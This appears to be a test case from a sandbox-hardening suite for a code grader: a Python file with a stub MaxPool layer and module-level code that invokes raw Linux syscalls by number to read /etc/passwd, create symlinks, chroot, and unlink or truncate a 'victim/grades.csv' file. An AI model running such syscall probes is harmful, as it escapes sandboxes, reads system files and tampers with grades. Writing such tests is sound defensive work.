# attack: opens files by the numbers of the calls, the newest ones too
# expect: not-full
import ctypes
import platform

import numpy as np

from utils import im2col


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        self.pool_h, self.pool_w, self.stride, self.pad = pool_h, pool_w, stride, pad
        self.x = self.arg_max = None

    def forward(self, x):
        n, c, h, w = x.shape
        out_h = (h + 2 * self.pad - self.pool_h) // self.stride + 1
        out_w = (w + 2 * self.pad - self.pool_w) // self.stride + 1
        rows = im2col(x, self.pool_h, self.pool_w, self.stride, self.pad).reshape(-1, self.pool_h * self.pool_w)
        self.x, self.arg_max = x, rows.argmax(axis=1)
        return rows.max(axis=1).reshape(n, out_h, out_w, c).transpose(0, 3, 1, 2)

    def backward(self, dout):
        ########## Begin ##########
        return np.zeros(self.x.shape)
        ########## End ##########


libc = ctypes.CDLL(None)
x86 = {"open": 2, "creat": 85, "openat": 257, "openat2": 437, "open_by_handle_at": 304, "name_to_handle_at": 303, "statx": 332, "newfstatat": 262, "stat": 4, "access": 21, "readlink": 89, "execveat": 322, "getdents64": 217, "inotify_init": 253, "fanotify_init": 300, "open_tree": 428, "move_mount": 429, "fsopen": 430, "chroot": 161, "pivot_root": 155, "mkdir": 83, "symlink": 88, "unlink": 87, "truncate": 76}
if platform.machine() == "x86_64":
    for name, number in x86.items():
        buffers = [ctypes.create_string_buffer(4096) for _ in range(3)]
        if name in ("openat", "openat2", "newfstatat", "statx", "name_to_handle_at"):
            how = ctypes.create_string_buffer(bytes(24))
            result = libc.syscall(number, -100, b"/etc/passwd", how if name == "openat2" else 0, 24 if name == "openat2" else 0xFFF, buffers[0])
        elif name in ("symlink",):
            result = libc.syscall(number, b"/etc/passwd", b"/tmp/@MARK@-symlink")
        elif name in ("mkdir", "creat"):
            result = libc.syscall(number, f"/tmp/@MARK@-{name}".encode(), 0o777)
        elif name in ("unlink", "truncate"):
            result = libc.syscall(number, b"@ARENA@/victim/grades.csv", 0)
        elif name in ("chroot",):
            result = libc.syscall(number, b"/tmp")
        else:
            result = libc.syscall(number, b"/etc/passwd", 0, buffers[0], 4096)
        if result >= 0:
            print("got-through:", name, result)
